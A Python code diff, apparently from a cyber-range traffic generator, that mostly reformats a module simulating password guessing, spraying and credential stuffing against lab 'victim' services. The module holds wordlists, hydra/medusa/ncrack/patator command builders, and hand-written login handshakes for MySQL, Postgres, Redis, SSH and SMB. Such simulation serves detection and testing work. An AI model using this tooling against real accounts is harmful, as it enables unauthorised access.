@@ -15,10 +15,18 @@ from ..catalog import hostile
 from .crew import Bounds, Pace, address_of, attempts, log_uniform, run_bounded, victim, victims
 
 GUESS, SPRAY, STUFF = "T1110.001", "T1110.003", "T1110.004"
-_STEMS = ("password", "letmein", "welcome", "summer", "winter", "dragon", "monkey", "football", "qwerty", "admin", "root",
-          "master", "sunshine", "shadow", "changeme", "secret", "login", "hello", "office", "company", "backup", "oracle")
-_NAMES = ("root", "admin", "administrator", "test", "guest", "user", "oracle", "postgres", "mysql", "ftp", "www", "backup",
-          "ubuntu", "pi", "deploy", "git", "jenkins", "operator", "support", "service", "nagios", "info", "sales")
+_STEMS = tuple(
+    """
+    password letmein welcome summer winter dragon monkey football qwerty admin root master sunshine shadow changeme
+    secret login hello office company backup oracle
+""".split()
+)
+_NAMES = tuple(
+    """
+    root admin administrator test guest user oracle postgres mysql ftp www backup ubuntu pi deploy git jenkins
+    operator support service nagios info sales
+""".split()
+)
 
 
 @dataclass(frozen=True)
@@ -41,10 +49,12 @@ TARGETS = {
     "http-form": Target(("weakweb", "nginx"), 80, "http-post-form", "", "", "http_fuzz"),
     "smb": Target(("smb",), 445, "", "smbnt", "smb", ""),
     "mysql": Target(("mysql",), 3306, "mysql", "mysql", "mysql", "mysql_login", ("root", "app", "admin")),
-    "postgres": Target(("postgres",), 5432, "postgres", "postgres", "psql", "pgsql_login", ("postgres", "app", "admin")),
+    "postgres": Target(
+        ("postgres",), 5432, "postgres", "postgres", "psql", "pgsql_login", ("postgres", "app", "admin")
+    ),
     "imap": Target(("mail",), 143, "imap", "imap", "imap", "imap_login"),
     "smtp": Target(("mail",), 587, "smtp", "smtp", "", "smtp_login"),
-    "redis": Target(("redis",), 6379, "redis", "", "redis", "", ("default",)),
+    "redis": Target(("redis",), 6379, "redis", users=("default",)),
 }
 WEB_PORTS = {"weakweb": 8080, "nginx": 80, "api": 8000}
 
@@ -71,9 +81,19 @@ def passwords(rng, count) -> list[str]:
     made = {}
     while len(made) < count:
         stem = rng.choice(_STEMS)
-        made[rng.choice((stem, stem.capitalize(), f"{stem}{rng.randrange(10 ** rng.randint(1, 4))}", f"{stem}!{rng.randrange(100)}",
-                         f"{stem.capitalize()}{rng.randrange(1990, 2027)}", f"{rng.randrange(10 ** 7):06d}",
-                         "".join(rng.choices("abcdefghijkmnpqrstuvwxyz23456789", k=rng.randint(5, 16)))))] = None
+        made[
+            rng.choice(
+                (
+                    stem,
+                    stem.capitalize(),
+                    f"{stem}{rng.randrange(10 ** rng.randint(1, 4))}",
+                    f"{stem}!{rng.randrange(100)}",
+                    f"{stem.capitalize()}{rng.randrange(1990, 2027)}",
+                    f"{rng.randrange(10**7):06d}",
+                    "".join(rng.choices("abcdefghijkmnpqrstuvwxyz23456789", k=rng.randint(5, 16))),
+                )
+            )
+        ] = None
     return list(made)
 
 
@@ -95,7 +115,11 @@ def _lists(ctx, kind, count):
     """User and password files whose product is at most `count`, now and then with a right pair in it."""
     rng = ctx.rng
     users = min(max(count // 2, 1), rng.choice((1, 1, 1, 2, 4, 8)))
-    pool = list(dict.fromkeys([*(TARGETS[kind].users or rng.sample(_NAMES, 8)), *(name for name, _ in rng.sample(ctx.site.users, 6))]))
+    pool = list(
+        dict.fromkeys(
+            [*(TARGETS[kind].users or rng.sample(_NAMES, 8)), *(name for name, _ in rng.sample(ctx.site.users, 6))]
+        )
+    )
     names, words = rng.sample(pool, min(users, len(pool))), passwords(rng, max(1, count // users))
     if rng.random() < 0.33 and len(words) > 2:
         names[rng.randrange(len(names))], words[rng.randrange(len(words) // 3, len(words))] = rng.choice(ctx.site.users)
@@ -123,26 +147,67 @@ async def _hydra(ctx, aim, flows, seconds, hands, per_s):
     count = max(1, min(flows - 1, int(seconds / gap_s) + 1 if slow else flows - 1))
     users, words, number = _lists(ctx, aim.kind, count)
     module = TARGETS[aim.kind].hydra
-    pace = ["-t", "1", "-c", str(gap_s)] if slow else ["-t", str(min(hands, max(number // 2, 1), 16 if module == "ssh" else 64))]
+    pace = (
+        ["-t", "1", "-c", str(gap_s)]
+        if slow
+        else ["-t", str(min(hands, max(number // 2, 1), 16 if module == "ssh" else 64))]
+    )
     if not slow and rng.random() < 0.3:
         pace += ["-W", str(rng.randint(1, 5))]
-    options = {"http-post-form": f"{aim.form_path}:{rng.choice(('username', 'user', 'log'))}=^USER^&password=^PASS^:F=",
-               "http-get": aim.path}.get(module)
+    options = {
+        "http-post-form": f"{aim.form_path}:{rng.choice(('username', 'user', 'log'))}=^USER^&password=^PASS^:F=",
+        "http-get": aim.path,
+    }.get(module)
     if module == "http-post-form":
         options += rng.choice(("invalid", "failed", "Invalid"))
-    argv = ["hydra", "-I", "-K", "-w", str(rng.randint(5, 32)), *pace, *(["-u"] if rng.random() < 0.5 else []),
-            *(["-f"] if rng.random() < 0.3 else []), *(["-6"] if ":" in aim.address else [])]
+    argv = [
+        "hydra",
+        "-I",
+        "-K",
+        "-w",
+        str(rng.randint(5, 32)),
+        *pace,
+        *(["-u"] if rng.random() < 0.5 else []),
+        *(["-f"] if rng.random() < 0.3 else []),
+        *(["-6"] if ":" in aim.address else []),
+    ]
     argv += ["-P", words] if module == "redis" else ["-L", users, "-P", words]
-    await run_bounded(ctx, [*argv, "-s", str(aim.port), f"{module}://{aim.url_host}" + (options or "")],
-                      to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
+    await run_bounded(
+        ctx,
+        [*argv, "-s", str(aim.port), f"{module}://{aim.url_host}" + (options or "")],
+        to=aim.to,
+        flows=flows,
+        seconds=seconds,
+        cwd=ctx.directory,
+    )
 
 
 async def _medusa(ctx, aim, flows, seconds, hands, per_s):
     rng = ctx.rng
     rate = per_s or log_uniform(rng, 0.5, 20)
     users, words, number = _lists(ctx, aim.kind, max(1, min(flows, int(rate * seconds))))
-    argv = ["medusa", "-b", "-h", aim.address, "-n", str(aim.port), "-U", users, "-P", words, "-M", TARGETS[aim.kind].medusa,
-            "-t", str(min(hands, number, 16)), "-r", str(rng.randint(1, 5)), "-R", "0", "-g", str(rng.randint(2, 8))]
+    argv = [
+        "medusa",
+        "-b",
+        "-h",
+        aim.address,
+        "-n",
+        str(aim.port),
+        "-U",
+        users,
+        "-P",
+        words,
+        "-M",
+        TARGETS[aim.kind].medusa,
+        "-t",
+        str(min(hands, number, 16)),
+        "-r",
+        str(rng.randint(1, 5)),
+        "-R",
+        "0",
+        "-g",
+        str(rng.randint(2, 8)),
+    ]
     if aim.kind == "http-basic":
         argv += ["-m", f"DIR:{aim.path}"]
     argv += ["-L"] if rng.random() < 0.3 else []
@@ -157,13 +222,24 @@ async def _ncrack(ctx, aim, flows, seconds, hands, per_s):
     options = [f"cl={min(most, rng.randint(1, 8))}", f"CL={most}", f"to={max(int(seconds), 2)}s"]
     if rng.random() < 0.6:
         options.append(f"at={rng.randint(1, 6)}")
-    if per_s or rng.random() < 0.4:
+    if per_s or aim.kind == "smb" or rng.random() < 0.4:  # a refused SMB dialect it tries again at once, without end
         options.append(f"cd={1000 / per_s if per_s else log_uniform(rng, 20, 8000):.0f}ms")
     if aim.kind == "http-basic":
         options.append("path=" + aim.path.strip("/"))
-    argv = ["ncrack", "-U", users, "-P", words, *(["--passwords-first"] if rng.random() < 0.4 else []),
-            *(["-f"] if rng.random() < 0.3 else []), "-m", f"{TARGETS[aim.kind].ncrack}:{','.join(options)}", "-T", str(rng.randint(2, 5)),
-            f"{TARGETS[aim.kind].ncrack}://{aim.url_host}:{aim.port}"]
+    argv = [
+        "ncrack",
+        "-U",
+        users,
+        "-P",
+        words,
+        *(["--passwords-first"] if rng.random() < 0.4 else []),
+        *(["-f"] if rng.random() < 0.3 else []),
+        "-m",
+        f"{TARGETS[aim.kind].ncrack}:{','.join(options)}",
+        "-T",
+        str(rng.randint(2, 5)),
+        f"{TARGETS[aim.kind].ncrack}://{aim.url_host}:{aim.port}",
+    ]
     await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
 
 
@@ -175,8 +251,12 @@ async def _patator(ctx, aim, flows, seconds, hands, per_s):
     if module == "http_fuzz":
         target = [f"url=http://{aim.url_host}:{aim.port}{aim.path}", "method=GET", "user_pass=FILE0:FILE1"]
         if aim.kind == "http-form":
-            target = [f"url=http://{aim.url_host}:{aim.port}{aim.form_path}", "method=POST", "body=username=FILE0&password=FILE1",
-                      "follow=0"]
+            target = [
+                f"url=http://{aim.url_host}:{aim.port}{aim.form_path}",
+                "method=POST",
+                "body=username=FILE0&password=FILE1",
+                "follow=0",
+            ]
         target.append(f"resolve={aim.address}:{aim.address}")
     else:
         target = [f"host={aim.address}", f"port={aim.port}", "user=FILE0", "password=FILE1"]
@@ -184,8 +264,21 @@ async def _patator(ctx, aim, flows, seconds, hands, per_s):
     # It reads its standard input for commands, without pause once that has ended: a FIFO never ends.
     keys = ctx.directory / f"keys-{rng.getrandbits(32):08x}"
     os.mkfifo(keys)
-    argv = ["sh", "-c", 'exec 0<>"$0"; exec "$@"', keys, "patator", module, *target, f"0={users}", f"1={words}", "-t", str(threads), "--max-retries=0",
-            f"--timeout={rng.randint(3, 10)}"]
+    argv = [
+        "sh",
+        "-c",
+        'exec 0<>"$0"; exec "$@"',
+        keys,
+        "patator",
+        module,
+        *target,
+        f"0={users}",
+        f"1={words}",
+        "-t",
+        str(threads),
+        "--max-retries=0",
+        f"--timeout={rng.randint(3, 10)}",
+    ]
     rate = per_s or (log_uniform(rng, 0.1, 5) if rng.random() < 0.5 else None)
     argv += [f"--rate-limit={threads / rate:.2f}"] if rate else []
     await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
@@ -252,7 +345,9 @@ class _Imap(_Dialogue):
 class _Smtp(_Dialogue):
     async def open(self, reader, writer):
         await _ftp_reply(reader)
-        writer.write(f"EHLO {self.rng.choice(('localhost', 'mail', 'pc', 'WIN-' + str(self.rng.randrange(9999))))}\r\n".encode())
+        writer.write(
+            f"EHLO {self.rng.choice(('localhost', 'mail', 'pc', 'WIN-' + str(self.rng.randrange(9999))))}\r\n".encode()
+        )
         while (await _line(reader))[3:4] == b"-":
             pass
 
@@ -264,7 +359,9 @@ class _Smtp(_Dialogue):
 
 class _Redis(_Dialogue):
     async def guess(self, reader, writer, user, password):
-        writer.write(f"AUTH {password}\r\n".encode() if self.rng.random() < 0.7 else f"AUTH {user} {password}\r\n".encode())
+        writer.write(
+            f"AUTH {password}\r\n".encode() if self.rng.random() < 0.7 else f"AUTH {user} {password}\r\n".encode()
+        )
         return (await _line(reader)).startswith(b"+OK")
 
 
@@ -273,7 +370,9 @@ class _Http(_Dialogue):
 
     def __init__(self, aim, rng):
         super().__init__(aim, rng)
-        self.agent = rng.choice(("Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "python-requests/2.31.0", "curl/7.88.1", "Hydra"))
+        self.agent = rng.choice(
+            ("Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", "python-requests/2.31.0", "curl/7.88.1", "Hydra")
+        )
         self.close = rng.random() < 0.4
         self.field = rng.choice(("username", "user", "login", "email"))
 
@@ -315,12 +414,18 @@ class _Mysql(_Dialogue):
     async def guess(self, reader, writer, user, password):
         hello = await self._packet(reader)
         after_version = hello.index(b"\0", 1) + 1
-        salt = hello[after_version + 4:after_version + 12] + hello[after_version + 31:after_version + 43]
+        salt = hello[after_version + 4 : after_version + 12] + hello[after_version + 31 : after_version + 43]
         one = hashlib.sha1(password.encode()).digest()
         two = hashlib.sha1(salt + hashlib.sha1(one).digest()).digest()
         proof = bytes(a ^ b for a, b in zip(one, two, strict=True))
-        body = (struct.pack("<IIB23x", 0x000FA685, 1 << 24, 33) + user.encode() + b"\0" + bytes([20]) + proof
-                + b"mysql_native_password\0")
+        body = (
+            struct.pack("<IIB23x", 0x000FA685, 1 << 24, 33)
+            + user.encode()
+            + b"\0"
+            + bytes([20])
+            + proof
+            + b"mysql_native_password\0"
+        )
         writer.write(len(body).to_bytes(3, "little") + b"\x01" + body)
         answer = await self._packet(reader)
         if answer[:1] != b"\x00":
@@ -367,8 +472,16 @@ class _Postgres(_Dialogue):
         return head[:1], await reader.readexactly(int.from_bytes(head[1:]) - 4)
 
 
-DIALOGUES = {"ftp": _Ftp, "imap": _Imap, "smtp": _Smtp, "redis": _Redis, "http-basic": _Http, "http-form": _Http,
-             "mysql": _Mysql, "postgres": _Postgres}
+DIALOGUES = {
+    "ftp": _Ftp,
+    "imap": _Imap,
+    "smtp": _Smtp,
+    "redis": _Redis,
+    "http-basic": _Http,
+    "http-form": _Http,
+    "mysql": _Mysql,
+    "postgres": _Postgres,
+}
 
 
 class _Guesser:
@@ -397,7 +510,9 @@ class _Guesser:
             return None
 
     async def _talk(self):
-        reader, writer = await asyncio.wait_for(asyncio.open_connection(self._aim.address, self._aim.port), self._timeout_s)
+        reader, writer = await asyncio.wait_for(
+            asyncio.open_connection(self._aim.address, self._aim.port), self._timeout_s
+        )
         try:
             await asyncio.wait_for(self._dialogue.open(reader, writer), self._timeout_s)
             for _ in range(self._per_connection):
@@ -414,6 +529,7 @@ class _Guesser:
 
     async def _ssh(self):
         import asyncssh
+
         pairs = [p for p in (next(self._guesses, None) for _ in range(min(self._per_connection, 3))) if p]
         if not pairs:
             return False
@@ -425,8 +541,18 @@ class _Guesser:
 
         try:
             connection = await asyncssh.connect(
-                self._aim.address, self._aim.port, username=pairs[0][0], client_factory=Client, known_hosts=None, config=None,
-                client_keys=None, agent_path=None, gss_host=None, preferred_auth="password", login_timeout=self._timeout_s)
+                self._aim.address,
+                self._aim.port,
+                username=pairs[0][0],
+                client_factory=Client,
+                known_hosts=None,
+                config=None,
+                client_keys=None,
+                agent_path=None,
+                gss_host=None,
+                preferred_auth="password",
+                login_timeout=self._timeout_s,
+            )
         except asyncssh.Error:
             return None
         connection.close()
@@ -435,19 +561,23 @@ class _Guesser:
 
     async def _smb(self):
         from impacket.smbconnection import SessionError, SMBConnection
+
         pair = next(self._guesses, None)
         if pair is None:
             return False
 
         def login():
-            connection = SMBConnection("*SMBSERVER", self._aim.address, sess_port=self._aim.port, timeout=int(self._timeout_s))
+            connection = SMBConnection(
+                "*SMBSERVER", self._aim.address, sess_port=self._aim.port, timeout=int(self._timeout_s)
+            )
             try:
                 connection.login(*pair)
-                return True
+                return not connection.isGuestSession()
             except SessionError:
                 return False
             finally:
                 connection.close()
+
         return None if not await asyncio.to_thread(login) else not self._stop
 
 
@@ -501,10 +631,21 @@ async def stuff(ctx, flows, seconds, *, kind=None, where=None, per_s=None):
     """Each user once with a password from elsewhere, at the pace of a person, a few of them right."""
     rng = ctx.rng
     kind = kind or _offered(ctx, ("http-form", "http-form", "http-basic", "imap", "smtp"), where)
-    guesses = [(f"{rng.choice(_STEMS)}{rng.randrange(1000)}@{rng.choice(('mail', 'corp', 'home'))}.example", word)
-               for word in passwords(rng, flows)]
+    guesses = [
+        (f"{rng.choice(_STEMS)}{rng.randrange(1000)}@{rng.choice(('mail', 'corp', 'home'))}.example", word)
+        for word in passwords(rng, flows)
+    ]
     for place in rng.sample(range(len(guesses)), min(len(guesses), rng.randint(0, 3))):
         guesses[place] = rng.choice(ctx.site.users)
     per_s = per_s or log_uniform(rng, max(1 / 40, 4 / seconds), 1)
-    await _own(ctx, kind, flows, seconds, where=where, per_s=per_s, guesses=guesses, hands=rng.choice((1, 1, 2, 4)),
-               manner=rng.choice(("human", "random", "bursts")))
+    await _own(
+        ctx,
+        kind,
+        flows,
+        seconds,
+        where=where,
+        per_s=per_s,
+        guesses=guesses,
+        hands=rng.choice((1, 1, 2, 4)),
+        manner=rng.choice(("human", "random", "bursts")),
+    )
